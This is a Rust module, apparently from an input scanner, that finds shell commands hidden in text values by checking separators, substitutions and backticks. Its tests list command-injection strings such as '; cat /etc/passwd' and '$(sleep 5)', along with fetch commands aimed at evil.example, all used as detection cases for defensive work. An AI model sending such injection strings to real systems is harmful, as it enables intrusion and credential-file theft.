//! Commands of shells: a value is read as a shell reads it, from each place where a command can begin.

mod arguments;
mod names;

use crate::{head::table, names::Names};
use arguments::{
    argument, names_file, names_host, powershell_argument, script, strong_argument, url, windows_argument, with_option,
};
use names::{ALIASES, RARE, REMOTE, SPOKEN, WINDOWS, WORDS};

/// What kind of command was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    /// A command of Unix behind a separator or in a substitution.
    Behind,
    /// The value is a command of Unix.
    Whole,
    /// A command of Windows or PowerShell.
    Windows,
    /// A command of Unix that talks to a host, where a text cites code.
    Cited,
}

/// The first command in `text`, which is in small letters; with `separators`, also one behind a separator. One that may be cited
/// only where there is no other.
pub(crate) fn command(text: &[u8], separators: bool) -> Option<(Kind, &[u8])> {
    let start = text.iter().take_while(|byte| byte.is_ascii_whitespace() || b"'\"({".contains(byte)).count();
    if let Some(kind) = begin(&text[start..], Before::Nothing) {
        return Some((kind, text));
    }
    if !separators {
        return None;
    }
    let mut in_a_text = None;
    let mut at = 0;
    while let Some(found) = text[at..].iter().position(|byte| SEPARATORS[usize::from(*byte)]) {
        at += found;
        let before = at.checked_sub(1).map_or(0, |before| text[before]);
        let kind = match text[at] {
            b'(' if matches!(before, b'$' | b'<' | b'>') => begin(&text[at + 1..], Before::Substitution),
            b'(' | b'{' if before != b')' && text[at] == b'(' => None,
            b'`' if cited(text, at) => {
                if in_a_text.is_none() && reaches_a_host(&text[at + 1..]) {
                    in_a_text = Some((Kind::Cited, &text[at..]));
                }
                None
            }
            b'`' => begin(&text[at + 1..], Before::Substitution),
            b'{' if !text[..at].trim_ascii_end().ends_with(b")") => None,
            b';' | b'|' if lone_w(text, at) => Some(Kind::Behind),
            _ => begin(&text[at + 1..], Before::Separator),
        };
        if let Some(kind) = kind {
            return Some((kind, &text[at..]));
        }
        at += 1;
    }
    in_a_text
}

/// Whether the backticks that begin at `at` set code in a text: with spaces around them, in brackets, as the name of a link, or one
/// name with words behind it.
fn cited(text: &[u8], at: usize) -> bool {
    let inner = &text[at + 1..];
    if inner.first().is_some_and(u8::is_ascii_whitespace) {
        return true;
    }
    match at.checked_sub(1).map(|before| text[before]) {
        Some(b'[') => bracketed(inner, b"](", b']'),
        Some(b'(') => bracketed(inner, b")", b')'),
        Some(before) => before.is_ascii_whitespace(),
        None => {
            let (name, after) = split_name(inner);
            let Some(behind) = after.strip_prefix(b"`") else { return false };
            let words = || {
                let words = behind.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
                words.take_while(|word| word.iter().all(u8::is_ascii_alphabetic))
            };
            !RARE.contains(name) && !ALONE.contains(name) && words().count() > 1 && words().any(|word| word.len() > 1)
        }
    }
}

/// Whether the code that `inner` begins with is in brackets: `closed` follows its backtick, or `bracket` soon where the code is one
/// word and no command that is none.
fn bracketed(inner: &[u8], closed: &[u8], bracket: u8) -> bool {
    let Some(end) = memchr::memchr(b'`', inner) else { return false };
    let (code, behind) = (&inner[..end], &inner[end + 1..]);
    behind.starts_with(closed)
        || behind[..behind.len().min(100)].contains(&bracket)
            && !code.iter().any(u8::is_ascii_whitespace)
            && !RARE.contains(split_name(code).0)
}

/// Whether the command `w` is all that follows the separator at `at`, the first one, and this is no list of single letters.
fn lone_w(text: &[u8], at: usize) -> bool {
    let behind = &text[at + 1..];
    // Few bytes, so that a run of separators and white space stays linear.
    if behind.len() >= 8 || behind.trim_ascii() != b"w" {
        return false;
    }
    let before = text[..at].trim_ascii();
    before.len() != 1 && !before.iter().any(|byte| b";|&".contains(byte))
}

/// Whether a command stands here that talks to a host, and a URL or a host among its arguments.
fn reaches_a_host(text: &[u8]) -> bool {
    let (name, after) = split_name(text.trim_ascii_start());
    let end = memchr::memchr(b'`', after).unwrap_or(after.len());
    REMOTE.contains(name)
        && after[..end].split(u8::is_ascii_whitespace).any(|word| names_host(word) && !names_file(word))
}

const SEPARATORS: [bool; 256] = {
    let mut table = [false; 256];
    let bytes = b";|&\n\r`({";
    let mut at = 0;
    while at < bytes.len() {
        table[bytes[at] as usize] = true;
        at += 1;
    }
    table
};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Before {
    Nothing,
    Separator,
    Substitution,
}

/// Programs that run the one named behind them.
static WRAPPERS: Names = Names::new(&[
    b"builtin", b"busybox", b"command", b"do", b"env", b"eval", b"exec", b"nice", b"nohup", b"setsid", b"strace",
    b"sudo", b"then", b"time", b"timeout", b"xargs",
]);
/// Words that alone behind a separator are a command.
static ALONE: Names =
    Names::new(&[b"df", b"dir", b"env", b"hostname", b"id", b"ls", b"ps", b"set", b"su", b"uname", b"ver"]);

/// Words of a text that as commands fetch the URL they are given.
static FETCHERS: Names = Names::new(&[b"install", b"links"]);

/// Whether a command begins here.
fn begin(text: &[u8], before: Before) -> Option<Kind> {
    let mut rest = text;
    let mut wrapped = false;
    // Wrappers, their options, and assignments; a bound keeps long runs of them linear.
    for _ in 0..8 {
        let skip = rest.iter().take_while(|byte| byte.is_ascii_whitespace() || b"({!@".contains(byte)).count();
        rest = &rest[skip..];
        let (name, after) = split_name(rest);
        if name.is_empty() {
            return None;
        }
        if WRAPPERS.contains(name) && after.first().is_some_and(u8::is_ascii_whitespace) {
            let skip = options(after);
            // Without a command behind it, it is one itself.
            if split_name(after[skip..].trim_ascii_start()).0.is_empty() {
                break;
            }
            if let Some(kind) = named(name, after, before) {
                return Some(kind);
            }
            rest = &after[skip..];
            wrapped = true;
        } else if after.first() == Some(&b'=') && name.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_')
        {
            let end = after.iter().position(|byte| byte.is_ascii_whitespace() || b";|&".contains(byte))?;
            rest = &after[end..];
        } else {
            break;
        }
    }
    let (name, after) = split_name(rest);
    let before = if wrapped && before == Before::Nothing { Before::Separator } else { before };
    named(name, after, before)
}

/// Bytes of options, and of a number behind them.
fn options(text: &[u8]) -> usize {
    let mut at = 0;
    loop {
        let space = text[at..].iter().take_while(|byte| byte.is_ascii_whitespace()).count();
        let word = text[at + space..].iter().take_while(|byte| !byte.is_ascii_whitespace()).count();
        let option = matches!(text.get(at + space), Some(b'-' | b'0'..=b'9'));
        if !option || space == 0 {
            return at;
        }
        at += space + word;
    }
}

/// A command's name without its path, and what follows it.
fn split_name(text: &[u8]) -> (&[u8], &[u8]) {
    static PART: [bool; 256] = table(b"_.+-/\\:");
    let length = crate::head::leading(&text[..text.len().min(200)], &PART);
    let full = &text[..length];
    let start = full.iter().rposition(|byte| matches!(byte, b'/' | b'\\' | b':')).map_or(0, |at| at + 1);
    // A switch of Windows may follow without a space: `ipconfig/all`.
    let known = full.iter().position(|byte| *byte == b'/').filter(|at| *at > 0 && WINDOWS.contains(&full[..*at]));
    match known {
        Some(at) => (&full[..at], &text[at..]),
        None => (&full[start..], &text[length..]),
    }
}

fn named(name: &[u8], after: &[u8], before: Before) -> Option<Kind> {
    if name.is_empty() || !(name[0].is_ascii_alphanumeric()) {
        return None;
    }
    // What follows tells most words of a text from commands, and costs less than the lists.
    if windows_argument(after) {
        let program = name.strip_suffix(b".exe").or(name.strip_suffix(b".com")).unwrap_or(name);
        if WINDOWS.contains(program) {
            return Some(Kind::Windows);
        }
    }
    if powershell_argument(after) && ALIASES.contains(name) {
        return Some(Kind::Windows);
    }
    if !after.first().is_none_or(|byte| byte.is_ascii_whitespace() || b";|&<>)`$/}'\"#".contains(byte)) {
        return None;
    }
    let base = name.iter().rposition(|byte| !byte.is_ascii_digit() && *byte != b'.').map_or(name, |at| &name[..=at]);
    let is = |list: &Names| list.contains(name) || base.len() < name.len() && list.contains(base);
    let next = after.trim_ascii_start().first().copied();
    let alone = || next.is_none_or(|byte| b";|&`')\"#".contains(&byte)) && ALONE.contains(name);
    let spoken = || SPOKEN.contains(name);
    let kind = if before == Before::Nothing { Kind::Whole } else { Kind::Behind };
    let found = match before {
        Before::Nothing => argument(after, true, true) && is(&RARE) || strong_argument(name, after) && is(&WORDS),
        Before::Separator => {
            is(&RARE)
                || name == b"su" && with_option(after)
                || name == b"sed" && script(after)
                || name == b"sleep" && next.is_some_and(|byte| byte.is_ascii_digit())
                || (argument(after, false, spoken()) && !(url(after) && spoken() && !FETCHERS.contains(name))
                    || alone())
                    && is(&WORDS)
        }
        Before::Substitution => is(&RARE) || is(&WORDS),
    };
    found.then_some(kind)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_and_prose() {
        for (text, kind) in [
            ("; cat /etc/passwd", Kind::Behind),
            ("127.0.0.1|id", Kind::Behind),
            ("x && uname -a", Kind::Behind),
            ("x;sudo -u root ls -la", Kind::Behind),
            ("a=b; x=1 wget evil.example", Kind::Behind),
            ("$(sleep 5)", Kind::Behind),
            ("x`id`", Kind::Behind),
            ("curl http://evil.example/x", Kind::Whole),
            ("/usr/bin/wget -O x", Kind::Whole),
            ("nohup ifconfig", Kind::Behind),
            (";curl evil.example/a x", Kind::Behind),
            (";sed s/a/b/ /etc/passwd", Kind::Behind),
            (";fetch http://evil.example/a", Kind::Behind),
            ("x|cat</etc/passwd", Kind::Behind),
            ("[`wget -qo- x.example`", Kind::Behind),
            ("`id`   ", Kind::Behind),
            ("x `wget -qo- x.example` y", Kind::Cited),
            ("(`curl https://x.example/a`)", Kind::Cited),
            ("see `ping x.example`; cat /etc/passwd", Kind::Behind),
            ("x & ipconfig /all", Kind::Windows),
            ("; iwr -uri http://evil.example", Kind::Windows),
        ] {
            assert_eq!(command(text.as_bytes(), true).map(|found| found.0), Some(kind), "{text}");
        }
        for text in [
            "cat food; dog food",
            "red; green; blue",
            "time; money; love",
            "R & D",
            "fish & chips",
            "run `ls -la` in the folder",
            "find x for y",
            "let me know; who is it?",
            "sort it out",
            "at home",
            "head of sales | acme",
            "a (b) c",
            "curl & shine",
            "make love, not war",
            "let me know; check example.com for more",
            "the list (`ls -la`) and [`sort`](#sort)",
            "see [`syn::type`], [`time` crate] (`mount` and others), (`build::env` of `cc`)",
            "`find` a match",
            "try `wget -c file.html` again",
            "python -snake",
            "dolor sit amet; sed do eiusmod",
            "terms & done.</p>",
            "x\n    at https://www.example.com/app.js:1:2345",
            "fish soup -meat",
            "x\n    at process.next (node:internal/task:95:5)",
        ] {
            assert_eq!(command(text.to_lowercase().as_bytes(), true), None, "{text}");
        }
    }
}
